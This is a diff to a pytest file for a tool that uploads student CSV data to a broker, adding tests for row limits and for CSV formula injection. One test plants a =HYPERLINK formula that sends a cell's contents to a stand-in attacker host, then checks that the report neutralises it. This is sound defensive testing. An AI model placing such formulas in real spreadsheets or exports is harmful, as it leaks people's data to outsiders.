@@ -6,6 +6,7 @@ from __future__ import annotations
 import argparse
 import csv
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -29,11 +30,11 @@ def sheet(tmp_path: Path, rows: list[list[str]]) -> Path:
     return path
 
 
-def run(path: Path) -> int:
+def run(path: Path, **settings: Any) -> int:
     args = argparse.Namespace(
         file=path, agency="disdik", dataset="peserta_didik", key="NISN", map=[], report=None, timeout=1.0
     )
-    return upload.main(args, Settings(namespace="kota"))
+    return upload.main(args, Settings(namespace="kota", **settings))
 
 
 def report(path: Path) -> list[tuple[int, str, str]]:
@@ -105,3 +106,32 @@ def test_a_broker_that_acknowledges_nothing_stops_the_upload(
     assert [(n, f) for n, f, _ in lines] == [(n, "<broker>") for n in range(2, 8)]
     assert lines[0][2].startswith("not published (Local: Message timed out)")
     assert lines[2][2].startswith("not sent: the broker acknowledged none of the rows before")
+
+
+def test_a_file_over_a_limit_publishes_nothing_and_says_which_limit(
+    fakes: Fakes, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = sheet(tmp_path, [student(i) for i in range(1, 6)])
+
+    assert run(path, upload_max_rows=4) == 2
+
+    assert fakes.produced == [] and fakes.attempts == 0
+    err = capsys.readouterr().err
+    assert "siswa.csv has a row 6, beyond its first 4 data rows (SATUBUS_UPLOAD_MAX_ROWS)" in err
+    assert "nothing was published" in err
+    assert not path.with_name(path.name + ".errors.csv").exists()
+
+
+def test_a_formula_in_what_the_report_echoes_is_written_as_text(fakes: Fakes, tmp_path: Path) -> None:
+    """A column the dataset does not have is named in the report when its cell is too long: its header is the
+    agency's text, and a spreadsheet opening the report must not run it."""
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"klik")'
+    path = tmp_path / "siswa.csv"
+    with path.open("w", newline="", encoding="utf-8") as f:
+        rows = [[*student(1), "3173020001", "2026/2027", "x" * 20], [*student(2), "3173020001", "2026/2027", "ok"]]
+        csv.writer(f).writerows([[*HEADER, formula], *rows])
+
+    assert run(path, upload_max_cell_chars=19) == 1
+
+    assert report(path) == [(2, "'" + formula, "20 characters, more than 19 (SATUBUS_UPLOAD_MAX_CELL_CHARS)")]
+    assert [key for _, key, _ in fakes.produced] == [b"0000000002"]
